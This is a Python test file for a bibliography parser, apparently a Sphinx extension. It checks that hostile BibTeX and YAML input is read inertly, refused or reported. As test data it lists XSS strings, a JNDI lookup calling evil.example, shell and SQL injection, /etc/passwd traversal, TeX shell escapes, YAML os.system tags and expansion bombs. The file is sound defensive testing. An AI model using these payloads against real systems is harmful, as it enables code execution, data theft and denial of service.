"""A source may be written by anybody: nothing in it is more than text.

Each case says what is hostile, and what must be true of the records and the problems
that are read; all are read in a moment, and none raises.
"""

from __future__ import annotations

import json
import re
import time
from itertools import pairwise
from typing import TYPE_CHECKING, Any

import pytest

from sphinx_academic.model.addresses import is_local
from sphinx_academic.model.characters import hidden_in

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from sphinx_academic.model.links import Link
    from sphinx_academic.sources import Source

    Write = Callable[..., Source]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "</title><script>alert(1)</script>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'x'</style>",
    "<!-- comment",
    "]]><script>",
    "{{ 7 * 7 }}",
    "{% include 'x' %}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot) `reboot` | reboot",
    "'; DROP TABLE records; --",
    "%s%s%n %(x)s {0} {x}",
    "../../../etc/passwd",
    "\\input{/etc/passwd}",
    "\\write18{reboot}",
    "\\def\\x{\\x\\x}\\x",
    "\\catcode`\\@=0",
    "\\csname end\\endcsname",
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\begin{document}\\end{document}",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\require{html}\\unicode{x}$",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;",
]  # fmt: skip
UNSAFE = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\\script:alert(1)",
    "java%73cript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil",
    "https://user:pass@evil.example/",
    "https://e.org/\"onclick=alert(1)",
    "https://e.org/<script>",
    "blob:https://e.org/1",
]  # fmt: skip
HIDDEN = {
    "a null": "\x00",
    "a bell": "\x07",
    "an escape": "\x1b",
    "a deletion": "\x7f",
    "a C1 control": "\x9b",
    "a left-to-right embedding": "\u202a",
    "a right-to-left embedding": "\u202b",
    "a pop of directions": "\u202c",
    "a left-to-right override": "\u202d",
    "a right-to-left override": "\u202e",
    "a left-to-right isolate": "\u2066",
    "a right-to-left isolate": "\u2067",
    "a first strong isolate": "\u2068",
    "a pop of isolates": "\u2069",
    "an annotation": "\ufff9",
    "no character": "\uffff",
}
FIELDS = ["author", "journal", "publisher", "note", "volume", "pages", "keywords"]


def texts(value: Any) -> Iterator[str]:
    """Yield every text in a value, however deep."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from texts(key)
            yield from texts(inner)
    elif isinstance(value, (tuple, list)):
        for inner in value:
            yield from texts(inner)
    elif hasattr(value, "__dict__"):
        yield from texts(vars(value))


def links(source: Source) -> list[Link]:
    return [link for r in source.records for link in r.values.get("links", ())]


def check(source: Source) -> None:
    """Assert what is true of whatever was read."""
    for record in source.records:
        assert not any(hidden_in(text) for text in texts(tuple(record)))
        assert record.line >= 1
        assert {run.style for run in runs(record)} <= {
            *("", "emphasis", "strong", "literal", "math", "subscript", "superscript")
        }
    for link in links(source):
        assert (
            not link.address
            or is_local(link.address)
            or re.match(r"(?:https?|mailto|tel|ftp):", link.address)
        )
    for problem in source.problems:
        assert problem.line >= 1
        assert len(problem.message) < 600


def runs(record: Any) -> list[Any]:
    parts = [record.title, *record.body] if not isinstance(record.title, str) else []
    return [run for part in parts for run in part]


def in_a_moment(read: Callable[[], Source], seconds: float = 1.0) -> Source:
    """Read, and assert that it took no longer than a second of this machine."""
    begin = time.process_time()
    source = read()
    assert time.process_time() - begin < seconds
    check(source)
    return source


# In BibTeX ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_title_in_bibtex_is_inert(source: Write, payload: str) -> None:
    found = in_a_moment(lambda: source(f"@misc{{a, title = {{x {payload} y}}}}"))
    (record,) = found.records
    text = "".join(run.text for run in record.title)  # type: ignore[union-attr]
    assert text.startswith("x")
    assert text.endswith("y")


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS[:8])
def test_a_field_in_bibtex_is_inert(source: Write, field: str, payload: str) -> None:
    found = in_a_moment(
        lambda: source(f"@article{{a, title = {{T}}, {field} = {{x {payload}}}}}")
    )
    assert found.records[0].title
    said = " ".join(texts(found.records[0].values))
    assert "x" in said
    assert "&lt;" not in said


@pytest.mark.parametrize("address", UNSAFE)
@pytest.mark.parametrize("field", ["url", "pdf", "code", "doi"])
def test_an_unsafe_address_in_bibtex_is_refused_and_told(
    source: Write, field: str, address: str
) -> None:
    found = in_a_moment(
        lambda: source(f"@misc{{a, title = {{T}},\n  {field} = {{{address}}}}}")
    )
    assert links(found) == []
    ((complaint, message, line),) = found.problems
    assert (complaint, line) == ("invalid_value", 2)
    assert field in message


@pytest.mark.parametrize("character", HIDDEN.values(), ids=HIDDEN)
def test_a_hidden_character_in_bibtex_is_dropped_and_told(
    source: Write, character: str
) -> None:
    fields = f"title = {{al{character}gebra}}, note = {{n{character}}}"
    text = f"@misc{{a,\n  {fields}}}"
    found = in_a_moment(lambda: source(text))
    assert found.records[0].title[0].text == "algebra"  # type: ignore[union-attr]
    ((complaint, message, line),) = found.problems
    assert (complaint, line) == ("hidden_character", 2)
    assert f"U+{ord(character):04X}" in message


@pytest.mark.parametrize(
    "entity", ["&#8238;", "&#x202E;", "&#0;", "&#27;", "&#55296;", "&#1114112;"]
)
def test_a_hidden_character_behind_an_entity_is_dropped(
    source: Write, entity: str
) -> None:
    fields = (
        f"title = {{a{entity}b}}, journal = {{c{entity}d}}, author = {{E{entity}f}}"
    )
    found = in_a_moment(lambda: source(f"@misc{{a, {fields}}}"))
    assert len(found.records) == 1


@pytest.mark.parametrize(
    "key",
    ["../../x", "a b", "<b>", "a\"onclick=x", "\u202ea", "__proto__", "a" * 9_999],
)  # fmt: skip
def test_a_hostile_key_in_bibtex(source: Write, key: str) -> None:
    found = in_a_moment(lambda: source(f"@misc{{{key}, title = {{T}}}}"))
    assert not re.search(r"[\s<>\"]", found.records[0].values.get("key", ""))


def big(what: str) -> str:
    """Return a value of a megabyte."""
    return (what * (1_000_000 // len(what) + 1))[:1_000_000]


@pytest.mark.parametrize(
    "field",
    [
        "title",
        "author",
        "note",
        "journal",
        "abstract",
        "year",
        "month",
        "doi",
        "url",
        "keywords",
        "pages",
        "isbn",
        "crossref",
        "date",
    ],
)
@pytest.mark.parametrize("what", ["x", "x ", "{", "\\", "$", "a, ", "x and ", "é<i>"])
def test_a_megabyte_in_a_field_of_bibtex(source: Write, field: str, what: str) -> None:
    value = big(what)
    title = "" if field == "title" else "title = {T}, "
    text = f"@misc{{a, {title}\n{field} = {{{value}}}}}\n@book{{b, title = {{B}}}}"
    found = in_a_moment(lambda: source(text), seconds=3.0)
    assert found.records[-1].values["key"] == "b"
    assert found.problems
    assert sum(map(len, texts(tuple(found.records[0])))) < 250_000


@pytest.mark.parametrize(
    "text",
    [
        "@misc{a, title = " + "{" * 10_000 + "deep" + "}" * 10_000 + "}",
        "@misc{a, title = {T}, author = " + "{" * 10_000 + "A" + "}" * 10_000 + "}",
        "@misc{a, title = {" + "\\emph{" * 8_000 + "x" + "}" * 8_000 + "}}",
        "@misc{a, title = {" + "<i>" * 10_000 + "x}}",
        "@misc{a, title = {" + "$" * 9_999 + "x}}",
        "@misc{a, title = {" + "\\(" * 10_000 + "x}}",
        "@misc{a, title = {" + "\\'" * 10_000 + "x}}",
        "@misc{a, title = {x" + "&" * 40_000 + "}}",
        "@misc{a, title = {x}, author = {" + " and ".join(["Lee, Ann"] * 5_000) + "}}",
        "@misc{a, title = {x}, author = {" + "; ".join(["Ann Lee*"] * 5_000) + "}}",
        "@misc{a, title = {x}, author = {" + "van der " * 20_000 + "}}",
        "@misc{a, title = {x}, year = {" + "1918, " * 8_000 + "}}",
        "@misc{a, title = {x}, journal = {" + "(a" * 24_000 + "}}",
        "@misc{a, title = {x}, journal = {" + "Findings of " * 4_000 + "}}",
        "@misc{a, title = {x}, keywords = {" + "k, " * 16_000 + "}}",
        "@misc{a, title = {x}, links = {" + "a <b>; " * 7_000 + "}}",
        "@misc{a, title = {x}" + ", note = {y}" * 5_000 + "}",
        "@misc{a, title = {x}" + "".join(f", f{n} = {{y}}" for n in range(5_000)) + "}",
        "@misc{a, title = {x}" + " # {y}" * 20_000 + "}",
        "@string{a = {x}}" + "".join(
            f"\n@string{{{chr(98 + n)} = {chr(97 + n)} # {chr(97 + n)}}}"
            for n in range(20)) + "\n@misc{m, title = u}",
        "@" * 100_000 + "misc{a, title = {x}}",
        "@misc{a, title = {x}}" + "}" * 100_000,
        "@misc{" * 20_000 + "title = {x}",
        "\n".join("@misc{" for _ in range(5_000)) + "title = {x}}",
        "@misc{a, crossref = {a}, title = {x}}",
        "@misc{a, crossref = {b}, title = {x}}\n@misc{b, crossref = {a}, title = {y}}",
        "---\n" * 20_000 + "@misc{a, title = {x}}",
        "%" * 100_000 + "\n@misc{a, title = {x}}",
        " " * 100_000 + "@misc{a, title = {x}}",
        "@misc{a, title = \"" + "{\"}" * 20_000 + "\"}",
        "@misc(" + "(" * 50_000 + "a, title = {x})",
        "@misc{a, title = {x}, note = {" + "\n\n" * 20_000 + "}}",
    ],
)  # fmt: skip
def test_a_shape_of_bibtex_that_grows(source: Write, text: str) -> None:
    found = in_a_moment(lambda: source(f"{text}\n@book{{last, title = {{L}}}}"), 3.0)
    assert found.records[-1].values["key"] == "last"


def test_names_that_stand_for_ten_times_a_name_each_fill_no_memory(
    source: Write,
) -> None:
    names = "abcdefghij"
    strings = [
        f"@string{{{name} = {' # '.join(before * 10)}}}"
        for before, name in pairwise(names)
    ]
    many = [f"@string{{j{number} = j # {{x}}}}" for number in range(2_000)]
    text = "\n".join(['@string{a = "xxxxxxxxxx"}', *strings, *many])
    text += "\n@misc{m, title = {T},\n note = j # j}"
    found = in_a_moment(lambda: source(text), 3.0)
    (problem,) = found.problems
    assert re.fullmatch(r"m: note: [\d,]+ characters, 20,000 are the most", problem[1])
    assert problem.line == text.count("\n") + 1


def test_bytes_that_are_no_text(source: Write) -> None:
    found = in_a_moment(lambda: source(bytes(range(256)) * 100))
    assert found.problems


def test_a_path_out_of_the_source_folder_stays_a_path(source: Write) -> None:
    """Whoever copies files refuses it, for it does not lie in the folder."""
    text = "@misc{a, title = {T}, pdf = {../../etc/passwd}, preview = {/etc/passwd}}"
    (link,) = links(in_a_moment(lambda: source(text)))
    assert is_local(link.address)


# In YAML --------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_in_yaml_stays_as_it_is(source: Write, payload: str) -> None:
    record = {"kind": "publication", "title": payload, "note": payload, "text": payload}
    found = in_a_moment(lambda: source(json.dumps([record]), "a.yml"))
    (read,) = found.records
    assert (read.title, read.body) == (payload, payload)
    assert read.values["note"] == " ".join(payload.split())


@pytest.mark.parametrize("address", UNSAFE)
@pytest.mark.parametrize("field", ["url", "links"])
def test_an_unsafe_address_in_yaml_is_refused_and_told(
    source: Write, field: str, address: str
) -> None:
    value = [{"label": "x", "url": address}] if field == "links" else address
    text = json.dumps([{"kind": "publication", "title": "T", field: value}])
    found = in_a_moment(lambda: source(text, "a.yml"))
    assert links(found) == []
    assert [problem.complaint for problem in found.problems] == ["invalid_value"]


@pytest.mark.parametrize("character", HIDDEN.values(), ids=HIDDEN)
@pytest.mark.parametrize("escaped", [False, True])
def test_a_hidden_character_in_yaml_is_dropped_and_told(
    source: Write, character: str, *, escaped: bool
) -> None:
    said = f"\\u{ord(character):04x}" if escaped else character
    text = f'- kind: publication\n  title: "al{said}gebra"\n  note: "n{said}o"\n'
    found = in_a_moment(lambda: source(text, "a.yml"))
    assert found.records[0].title == "algebra"
    assert found.records[0].values["note"] == "no"
    assert {problem.complaint for problem in found.problems} == {"hidden_character"}


@pytest.mark.parametrize(
    "tag",
    [
        "!!python/object/apply:os.system",
        "!!python/object/new:type",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!binary",
        "!!set",
        "!include",
        "!ENV",
        "!<tag:evil.example,2002:x>",
    ],
)
def test_a_tag_makes_no_object(source: Write, tag: str) -> None:
    text = f"- kind: publication\n  title: T\n  note: {tag} reboot\n"
    found = in_a_moment(lambda: source(text, "a.yml"))
    assert found.records[0].values["note"] == "reboot"
    ((complaint, message, line),) = found.problems
    assert (complaint, line) == ("malformed_source", 3)
    assert "is not used here" in message


def laughs(depth: int, width: int) -> str:
    """Return a file in which each list names the one before many times."""
    names = [f"a{number}" for number in range(depth)]
    rows = [f"- &a0 [{', '.join(['lol'] * width)}]"]
    for before, name in pairwise(names):
        rows.append(f"- &{name} [{', '.join([f'*{before}'] * width)}]")
    return "\n".join([*rows, f"- {{kind: news, date: 1918, keywords: *{names[-1]}}}"])


@pytest.mark.parametrize(
    "text",
    [
        laughs(9, 9),
        laughs(30, 2),
        laughs(3, 1_000),
        laughs(18, 10),
        "a: &a [*a]",
        "a: &a {b: *a}",
        "&a [*a, *a]",
        "a: &a\n  <<: *a\n",
        "[" * 100_000,
        "{" * 100_000,
        "- " * 100_000,
        "? " * 50_000,
        "{a: " * 50_000,
        "[" * 20_000 + "]" * 20_000,
        "a: " + "b: " * 10_000,
        "\n".join(" " * n + "a:" for n in range(1_000)),
        "- kind: publication\n  title: " + "x" * 1_000_000,
        "- kind: publication\n  title: T\n  abstract: " + "x " * 500_000,
        "- kind: publication\n  title: T\n  note: " + "x" * 1_000_000,
        "- kind: publication\n  title: T\n"
        + "".join(f"  field{n}: x\n" for n in range(20_000)),
        "".join(f"field{n}: x\n" for n in range(5_000)),
        "- kind: publication\n  title: T\n  authors: ["
        + ", ".join(["Ann Lee"] * 5_000) + "]",
        "- kind: publication\n  title: T\n  authors:\n"
        + "  - {given: Ann, family: Lee, equal: true}\n" * 5_000,
        "- kind: publication\n  title: T\n  links:\n"
        + "  - {label: x, url: 'https://e.org/'}\n" * 2_000,
        "- x\n" * 20_000,
        "---\n" * 20_000,
        "&" + "a" * 100_000 + " x",
        "%YAML 9.9\n---\n- x",
        "\t- x",
        "\"\\x00\\ud800\\uffff\"",
        "'" * 99_999,
        "|" * 10_000,
        "# x\n" * 100_000,
        "- kind: " + "publication" * 10_000 + "\n  title: T",
    ],
    ids=lambda text: repr(text[:40]),
)  # fmt: skip
def test_a_shape_of_yaml_that_grows(source: Write, text: str) -> None:
    found = in_a_moment(lambda: source(text, "a.yml"), 3.0)
    assert sum(1 for _ in texts(tuple(found.records))) < 2_000_000
    assert found.problems or found.records or text.startswith(("---", "#"))


def test_many_names_of_one_list_stay_one_list(source: Write) -> None:
    found = in_a_moment(lambda: source(laughs(9, 9), "a.yml"))
    assert any("counted as often" in p.message for p in found.problems)
